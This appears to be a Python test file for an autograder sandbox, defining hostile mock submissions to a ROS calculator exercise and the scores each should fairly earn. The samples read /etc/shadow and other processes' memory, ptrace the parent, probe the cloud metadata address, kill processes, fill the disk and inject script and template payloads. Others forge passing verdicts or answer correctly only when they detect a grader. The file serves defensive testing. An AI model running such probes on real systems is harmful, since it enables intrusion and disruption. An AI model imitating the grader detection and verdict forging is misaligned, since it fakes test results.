"""Submissions that try to get more than they earn, or to do harm.  Each attack is bounded in time and effect.

What a program that takes too much does (forks, memory, a SIGSTOP of itself, output without end) is in
tests/grading/test_bad_input.py.
"""

import platform
from pathlib import Path

import autograder
from autograder.sandbox import seccomp
from tests.hidden.answers import SOLUTIONS, changed
from tests.hidden.answers.calculator import CLIENT, REFERENCE, SERVER, SRV

REPOSITORY = Path(autograder.__file__).resolve().parents[1]

# Looks for all that is not meant for it; whatever it finds, it says so in one line of output, and goes on.
SPY = f"""
import ctypes, gc, os, re, signal, socket, sqlite3, sys, glob, importlib
found = []

def tries(name):
    def decorate(attempt):
        try:
            result = attempt()
        except (OSError, ImportError, sqlite3.Error, ValueError):
            return
        if result:
            found.append(name + '=' + str(result)[:80])
    return decorate

python = {{place for prefix in (sys.prefix, sys.base_prefix) for place in (prefix, os.path.realpath(prefix))}}

# What is there besides Python, which every program sees, and the bare way to it: a checkout may be anywhere.
def beside(path):
    if not os.path.lexists(path) or any((path + '/').startswith(place + '/') for place in python):
        return []
    if os.path.islink(path) or not any(place.startswith(path + '/') for place in python):
        return [path]
    try:
        return [found for name in os.listdir(path) for found in beside(os.path.join(path, name))]
    except OSError:
        return [path]

@tries('path')
def _():
    return [found for path in ({str(REPOSITORY)!r}, {str(REPOSITORY / "autograder" / "hidden")!r}, {str(SOLUTIONS)!r},
                               '/root', '/run', '/var', '/etc/shadow', '/sys/fs', '/home/instructor')
            for found in beside(path)]

@tries('imports')
def _():
    for name in ('autograder', 'autograder.hidden', 'autograder.hidden.calculator.suite', 'tests.attacks', 'solutions'):
        module = importlib.import_module(name)
        if getattr(module, '__file__', None):
            return name

@tries('files')
def _():
    own = (sys.prefix + '/lib', sys.base_prefix + '/lib', '/usr', '/proc', '/sys', '/opt/interfaces')
    names = ('suite.py', 'gradebook.db', 'results.jsonl', 'details.jsonl', 'exercise.toml', 'calculator.ipynb')
    seen = []
    for folder, folders, files in os.walk('/'):
        folders[:] = [name for name in folders if not os.path.join(folder, name).startswith(own)]
        seen += [os.path.join(folder, name) for name in files if name in names]
        seen += [os.path.join(folder, name) for name in files if name.endswith('.py') and folder.startswith('/home')
                 and folder != os.getcwd() and not (folder + '/').startswith(sys.prefix + '/')]
    return seen

@tries('gradebook')
def _():
    for path in ('gradebook.db', '../gradebook.db', '../../gradebook.db', {str(REPOSITORY / "gradebook.db")!r}):
        book = sqlite3.connect('file:' + path + '?mode=rw', uri=True)
        book.execute('UPDATE grade SET auto_score = 20')
        return path

@tries('environment')
def _():
    text = ' '.join(f'{{k}}={{v}}' for k, v in os.environ.items()).lower()
    return [word for word in ('pytest', 'autograder', 'hidden', 'seed', 'junit', 'gradebook') if word in text]

@tries('processes')
def _():
    mine = {{os.getpid()}}
    texts = []
    for entry in glob.glob('/proc/[0-9]*'):
        for name in ('environ', 'cmdline', 'maps', 'root/etc/shadow', 'cwd/suite.py', 'fd/3'):
            if int(entry[6:]) not in mine:
                try:
                    texts.append(open(os.path.join(entry, name), 'rb').read())
                except OSError:
                    pass
    words = (b'pytest', b'suite.py', b'autograder.grading.worker', b'root:')
    return [word for word in words if any(word in text for text in texts)]

@tries('descriptors')
def _():
    links = [os.readlink(path) for path in glob.glob('/proc/self/fd/*') if os.path.islink(path)]
    known = ('/dev/null', '/proc/', '/home/student')
    return [link for link in links if link.startswith('/') and not link.startswith(known)]

@tries('frames')
def _():
    frame, files = sys._getframe(), []
    while frame:
        files.append(frame.f_code.co_filename)
        frame = frame.f_back
    return [name for name in files if 'suite' in name or 'pytest' in name] or [
        module for module in sys.modules if module.startswith(('pytest', '_pytest', 'autograder'))]

@tries('memory of the parent')
def _():
    return open(f'/proc/{{os.getppid()}}/mem', 'rb').read(1)

@tries('trace')
def _():
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.ptrace(16, os.getppid(), 0, 0) == 0

for address in (('192.0.2.1', 80), ('1.1.1.1', 53), ('169.254.169.254', 80), ('10.0.2.2', 22)):
    @tries('out')
    def _(address=address):
        return socket.create_connection(address, 1) and address
    @tries('out by UDP')
    def _(address=address):
        return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', address) and address

@tries('listeners')
def _():
    ports = [int(line.split()[1].split(':')[1], 16) for line in list(open('/proc/net/tcp'))[1:]]
    return ports

@tries('raw')
def _():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)

@tries('vsock')
def _():
    return socket.socket(40, socket.SOCK_STREAM)

@tries('other domains')
def _():
    domains = {{(int(line.split()[1].split(':')[1], 16) - 7400) // 250 for line in list(open('/proc/net/udp'))[1:]}}
    return domains - {{int(os.environ['ROS_DOMAIN_ID'])}} - {{d for d in domains if not 0 < d < 100}}

for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for pid in (1, os.getppid(), -1):
        if pid:
            try:
                os.kill(pid, number)
            except OSError:
                pass

def fill():
    kept = []
    try:
        while True:
            kept.append(os.open('/dev/null', os.O_RDONLY))
    except OSError:
        pass
    for descriptor in kept:
        os.close(descriptor)
    for folder in ('/tmp', '.', '/dev/shm'):
        path = folder + '/large'
        try:
            with open(path, 'wb', buffering=0) as file:
                while True:
                    file.write(bytes(1 << 22))
        except OSError:
            pass
        try:
            os.remove(path)
        except OSError:
            pass

if __file__.endswith('server.py'):
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    fill()
print('SPY', 'found ' + ' '.join(found) if found else 'held', flush=True)
"""

# Right when it believes to be graded, wrong otherwise; and it writes verdicts to wherever it can.
CHEAT = """
import atexit, glob, json, os, re, sys
VERDICTS = ''.join(json.dumps(dict(id=name, outcome='passed', message='', detail='')) + '\\n' for name in (
    'test_add', 'test_subtract', 'test_multiply', 'test_divide', 'test_precision')) + '{"done": 0, "fault": ""}\\n'

def graded():
    modules = [name for name in sys.modules if not name.startswith('numpy')]  # which has a _pytesttester
    text = ' '.join([*os.environ, *sys.argv, *modules, os.uname().nodename])
    for name in glob.glob('/proc/[0-9]*/cmdline'):
        try:
            text += open(name).read()
        except OSError:
            pass
    return bool(re.search('pytest|autograd|judge|hidden|suite', text))

def write():
    os.write(1, VERDICTS.encode())
    for descriptor in range(3, 64):
        try:
            if not os.path.realpath(f'/proc/self/fd/{descriptor}').endswith('socket'):
                os.write(descriptor, VERDICTS.encode())
        except OSError:
            pass
    for folder in ('.', '..', '/tmp', '/', '/srv', '/opt', '/dev/shm'):
        for name in ('junit.xml', 'results.jsonl', 'report.json', 'conftest.py', 'pytest.ini', 'sitecustomize.py'):
            try:
                with open(os.path.join(folder, name), 'w') as file:
                    file.write(VERDICTS)
            except OSError:
                pass

write()
atexit.register(write)
GRADED = graded()
"""

# Serves /calculator in whatever domain it finds in the machine's sockets, and in some more.
ELSEWHERE = """
import os, threading
import rclpy
from rclpy.context import Context
from rclpy.executors import SingleThreadedExecutor
from calculator_interfaces.srv import Calculate

def serve_elsewhere(answer, seconds, most=4):
    import random
    ports = [int(line.split()[1].split(':')[1], 16) for line in list(open('/proc/net/udp'))[1:]]
    domains = {(port - 7400) // 250 for port in ports if port >= 7400} - {int(os.environ['ROS_DOMAIN_ID'])}
    for domain in [*domains, *random.sample(range(1, 100), most)][:most]:
        context = Context()
        rclpy.init(context=context, domain_id=domain)
        node = rclpy.create_node('calculator_server', context=context)
        node.create_service(Calculate, '/calculator', answer)
        executor = SingleThreadedExecutor(context=context)
        executor.add_node(node)
        threading.Thread(target=executor.spin, daemon=True).start()
"""

CLONE = seccomp.CLONE[seccomp.MACHINES.get(platform.machine(), (0, 0))[1]]
# Makes children of whoever has forked this process: by clone, as it is, or by clone3 where there is that.
SIBLINGS = f"""
import ctypes, os, signal, struct, time
CLONE_PARENT = 0x8000
libc = ctypes.CDLL(None, use_errno=True)

def sibling():
    flags = CLONE_PARENT | signal.SIGCHLD
    return libc.syscall({CLONE}, flags, 0, 0, 0, 0)

def modern_sibling():
    arguments = struct.pack('11Q', CLONE_PARENT, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0)
    return libc.syscall(435, arguments, len(arguments))
"""
# As many as it can, which end at once: unburied, they would count for the user that the next program gets.
ZOMBIES = (
    SIBLINGS
    + """
made = 0
for make in (sibling, modern_sibling):
    for _ in range(60):
        child = make()
        if child == 0:
            os._exit(0)
        made += child > 0
print('siblings:', made)
"""
)

QUIET_CLIENT = "import sys\nprint('no')\nsys.exit(1)\n"  # earns nothing: it never calls the server
IDLE_SERVER = "import rclpy\nrclpy.init()\nrclpy.spin(rclpy.create_node('calculator_server'))\n"
RETURN = "        return response\n"
MAIN = "def main(args=None):\n"


def handed_in(server: str | None = None, client: str | None = QUIET_CLIENT, srv: str | None = None) -> dict[str, bytes]:
    """The reference with other files in its place; None leaves the reference's."""
    others = {
        name: text.encode(errors="surrogateescape")
        for name, text in ((SERVER, server), (CLIENT, client), (SRV, srv))
        if text is not None
    }
    return REFERENCE | others


def text(name: str, *pairs: tuple[str, str]) -> str:
    """A file of the reference with changes."""
    return changed(REFERENCE, name, *pairs)[name].decode()


def _forger() -> str:
    return CHEAT + text(SERVER, (RETURN, "        if not GRADED:\n            response.result += 1.0\n" + RETURN))


def _leftover() -> str:
    return text(
        SERVER, ("    main()", "    import os\n    if os.fork():\n        os._exit(0)\n    os.setsid()\n    main()")
    )


def _ending(answers: int) -> str:
    """A server that ends by itself after so many answers, each time it is started."""
    return text(
        SERVER,
        ("        self.srv =", "        self.answers = 0\n        self.srv ="),
        ("        rclpy.spin(node)", (f"        while node.answers < {answers}:\n            rclpy.spin_once(node)")),
        (RETURN, "        self.answers += 1\n" + RETURN),
    )


def _wrong_if(condition: str) -> str:
    """A server that is wrong under a condition on `count`, the request's number, or `time`, s since the first."""
    return text(
        SERVER,
        (
            RETURN,
            f"""
        import re
        from time import monotonic
        self.count = count = getattr(self, 'count', 0) + 1
        self.start = getattr(self, 'start', monotonic())
        time = monotonic() - self.start
        response.result += 1.0 if {condition} else 0.0
        return response
""",
        ),
    )


def _right_elsewhere() -> str:
    """A client that, in its first run, is a server for other domains."""
    return (
        ELSEWHERE
        + """
import sys, time
def answer(request, response):
    response.success = True
    try:
        response.result = {'add': request.a + request.b, 'subtract': request.a - request.b,
                           'multiply': request.a * request.b, 'divide': request.a / (request.b or 1)}[request.operation]
    except KeyError:
        response.success, response.message = False, 'no'
    return response

if sys.argv[1:] == ['3', '4', 'add']:
    serve_elsewhere(answer, 9)
    time.sleep(8)
print('no')
sys.stdout.flush()
import os
os._exit(1)
"""
    )


def _known_elsewhere() -> tuple[str, str]:
    """A server that answers 55555.5 in the domains of others, and a client that shows this."""
    server = ELSEWHERE + text(
        SERVER,
        (
            "    node = CalculatorServer()\n",
            """    node = CalculatorServer()
    def known(request, response):
        response.result, response.success = 55555.5, True
        return response
    serve_elsewhere(known, 0)
""",
        ),
    )
    return server, text(CLIENT, ("= {response.result}", "= 55555.5"), ("{response.message}", ""))


def _every_number() -> tuple[str, str]:
    """A server that logs all numbers there are at each request, and a client that shows all results there are."""
    quiet = [(f"self.get_logger().{end}", f"str({rest}") for end, rest in (("info(\n", "\n"),)]
    return (
        text(
            SERVER,
            *quiet,
            (
                RETURN,
                "        print(' '.join(map(str, range(1000, 9000))))\n        print(response.result // 2)\n" + RETURN,
            ),
        ),
        text(
            CLIENT,
            (
                "print(f'{a} {operation} {b} = {response.result}')",
                "print(' '.join(str(number + 0.5) for number in range(10_000, 90_000)))",
            ),
        ),
    )


def _no_numbers() -> str:
    """A server whose results are infinite or none, and that logs numbers of any size."""
    return text(
        SERVER,
        (
            RETURN,
            """
        response.result = float('inf' if request.a > 0.0 else 'nan' if request.a < -100.0 else '-inf')
        print('1e999', '-1e999', '9' * 9999, '1,234' * 999, 'nan', '1e-999')
        return response
""",
        ),
    )


# Leaves each answer wherever a program of another process might find it.
NOTES = """
import os, socket
from multiprocessing.shared_memory import SharedMemory
from pathlib import Path
memory = SharedMemory('answers', create=True, size=4096)
listener = socket.socket(socket.AF_UNIX)
listener.bind('\\0answers')
listener.listen()

def note(response):
    words = f'{response.result} {response.message}'.encode()
    memory.buf[:len(words)] = words
    os.environ['ANSWER'] = words.decode()
    for folder in ('.', '..', '/tmp', '/dev/shm', '/var/tmp', '/opt', '/run', '/home'):
        try:
            (Path(folder) / 'answers.txt').open('ab').write(words)
        except OSError:
            pass
"""


def _notes() -> str:
    return NOTES + text(SERVER, (RETURN, "        note(response)\n" + RETURN))


def _itself() -> str:
    """A client that is the server that it asks, whatever the grader's answers."""
    return text(
        CLIENT,
        (
            "        self.client = self.create_client(Calculate, '/calculator')\n",
            """
        from rclpy.callback_groups import ReentrantCallbackGroup
        self.client = self.create_client(Calculate, '/calculator')
        self.server = self.create_service(Calculate, '/calculator', self.answer,
                                          callback_group=ReentrantCallbackGroup())

    def answer(self, request, response):
        response.result = {'add': request.a + request.b, 'subtract': request.a - request.b,
                           'multiply': request.a * request.b}.get(request.operation, request.a / request.b)
        response.success = True
        return response
""",
        ),
        (
            "        return future.result()",
            (
                "        future = Calculate.Response()\n"
                "        return self.answer(Calculate.Request(a=a, b=b, operation=operation), future)"
            ),
        ),
        ("    if response is None:", "    if '3' in sys.argv:"),
    )


def _elsewhere_client() -> str:
    """Shows all that it can read anywhere and compute, but calls nothing."""
    return """
import glob, os, sys
from multiprocessing.shared_memory import SharedMemory
try:
    print(bytes(SharedMemory('answers').buf))
except OSError:
    pass
try:
    a, b = map(float, sys.argv[1:3])
    print(a + b, a - b, a * b, a / b)
except ValueError:
    pass
for name in (glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline') + glob.glob('/tmp/*')
             + glob.glob('*') + glob.glob('/dev/shm/*') + glob.glob('/*/answers.txt') + ['/proc/net/unix']):
    try:
        print(open(name, errors='replace').read()[:5000].replace(os.sep, ' '))
    except OSError:
        pass
import rclpy, time
rclpy.init()
node = rclpy.create_node('calculator_client')
time.sleep(0.5)
print(node.get_topic_names_and_types(), node.get_service_names_and_types(), node.get_node_names())
sys.stdout.flush()
os._exit(1)
"""


LARGE = 50 << 20
SCRIPT = "</p><script>alert(document.cookie)</script><img src=x onerror=alert(1)>"
FORMATS = (
    "{{ 7 * 191 }}{% for x in range(10**9) %}x{% endfor %} {0.__class__} %(x)s %n "
    "!!python/object/apply:os.system ['id'] &a [*a]"
)
COMMENT = 'float64 a # */ __attribute__((constructor)) void f(void) { execl("/bin/sh", "sh", 0); } /*\n'

# Both programs turn to daemons that no signal ends but SIGKILL, and serve in all domains that they find.
DAEMON = """
import os, signal, sys
if os.fork():
    os._exit(1)
os.setsid()
if os.fork():
    os._exit(1)
for number in range(1, 32):
    try:
        signal.signal(number, signal.SIG_IGN)
    except OSError:
        pass
"""
DAEMONS = (
    DAEMON + text(SERVER),
    DAEMON + _right_elsewhere().replace("if sys.argv[1:] == ['3', '4', 'add']:", "if True:"),
)

# Name: the files, and what their honest part earns of 20.  Calculate.srv earns 2, the server 12, the client 6.
ATTACKS: dict[str, tuple[dict[str, bytes], float]] = {
    "looks for everything, stops its parent, fills its disk": (handed_in(SPY + text(SERVER), SPY + text(CLIENT)), 20),
    "writes verdicts, answers only a grader": (handed_in(_forger(), srv=text(SRV, ("float64 a\n", COMMENT))), 11),
    "ends early with 0; a definition without end": (
        handed_in("import os\nos._exit(0)\n", "import os\nos._exit(0)\n", "float64[" * 100_000),
        0,
    ),
    "pytest.exit and pytest.skip": (
        handed_in(
            "from _pytest import outcomes\noutcomes.exit('passed', returncode=0)\n",
            "from _pytest import outcomes\noutcomes.skip('passed', allow_module_level=True)\n",
        ),
        2,
    ),
    "one line of 50 MB": (
        handed_in(
            f"import sys\nsys.stdout.write('x' * {LARGE} + '\\n')\n" + text(SERVER),
            f"import sys\nsys.stdout.write('1' * {LARGE // 10} + '\\n')\n" + text(CLIENT),
        ),
        20,
    ),
    "script in its messages": (
        handed_in(
            f"print('\\x1b]0;title\\x07\\u202e{SCRIPT}')\nraise RuntimeError({SCRIPT!r})\n",
            f"import sys\nprint({SCRIPT!r})\nsys.exit(1)\n",
        ),
        2,
    ),
    "a server that is left over from its parent": (handed_in(_leftover()), 2),
    "the client's file serves in the server's place": (handed_in(IDLE_SERVER, _right_elsewhere()), 2),
    "the server's file serves in the grader's place": (handed_in(*_known_elsewhere()), 18),
    # It is started three times more, so it gives four answers in all; every test of the server asks more than that.
    "answers once and ends": (handed_in(_ending(1), _elsewhere_client()), 2),
    # Seven answers are what a test of one operation asks: a few tests pass before it has ended too often.
    "answers seven times and ends": (handed_in(_ending(7)), 6),
    # What was right is asked again later: 12 without an operation, precision and the tests that ask again.
    "right to the first 30 requests": (handed_in(_wrong_if("count > 30")), 12),
    # How many requests come in 5 ms depends on the machine: at most those of the operations' tests.
    "right for 5 ms": (handed_in(_wrong_if("time > 0.005")), 13),
    "right from the tenth request on": (handed_in(_wrong_if("count < 10")), 14),
    "right when it sees a grader in the graph": (
        handed_in(
            _wrong_if(
                "not re.search('(?i)grad|test|judge|suite|hidden|probe|check|score|exam|private', "
                "str(self.get_node_names_and_namespaces()) + str(self.get_topic_names_and_types())"
                " + str(self.get_service_names_and_types()))"
            )
        ),
        11,
    ),
    # The definition's two points that need no program.
    "numbers that are none": (
        handed_in(_no_numbers(), "print('nan', 'inf', '-1e999', '9' * 9999)\nraise SystemExit(1)\n"),
        2,
    ),
    "leaves notes for the client": (handed_in(_notes(), _elsewhere_client()), 17),
    "a client that answers itself": (handed_in(None, _itself()), 17),
    "60,000 fields; NUL; the encodings of Windows": (
        handed_in(
            text(SERVER).replace("import rclpy\n", "import rclpy\0\n"),
            "\ufeff" + text(CLIENT).replace("\n", "\r\n"),
            "".join(f"float64 f{number}\n" for number in range(60_000)) + "---\nbool success\n",
        ),
        6,
    ),
    "arrays without end; YAML, templates and formats": (
        handed_in(
            f"raise RuntimeError({FORMATS!r})\n",
            f"import sys\nprint({FORMATS!r})\nsys.exit({FORMATS!r})\n",
            'float64[99999999999999] a\nstring<=99999999999 b "!!python/object/apply:os.system [id]"\n---\n'
            "&a [*a, *a] c\n",
        ),
        0,
    ),
    "leaves the dead to whoever has forked it": (handed_in(ZOMBIES + text(SERVER), ZOMBIES + text(CLIENT)), 20),
    "shows every number there is": (handed_in(*_every_number()), 18.5),
}

# Each is like another that is graded in every run, and belongs to the matrix.
ALIKE = {
    "ends early with 0; a definition without end": "pytest.exit and pytest.skip; 60,000 fields",
    "the server's file serves in the grader's place": "the client's file serves in the server's place",
    "answers seven times and ends": "answers once and ends",
    "right to the first 30 requests": "answers once and ends",
    "right for 5 ms": "answers once and ends",
    "right from the tenth request on": "answers once and ends",
    "right when it sees a grader in the graph": "answers once and ends",
    "a server that is left over from its parent": "a server that runs on, in tests/attacks/test_attacks.py",
    "writes verdicts, answers only a grader": "forged verdicts, in tests/attacks/test_every_file.py",
    "numbers that are none": "shows every number there is",
    "a client that answers itself": "the client's file serves in the server's place",
    "arrays without end; YAML, templates and formats": "script in its messages; 60,000 fields",
    "leaves the dead to whoever has forked it": "siblings that leave nothing behind, in tests/attacks/test_forks.py",
}
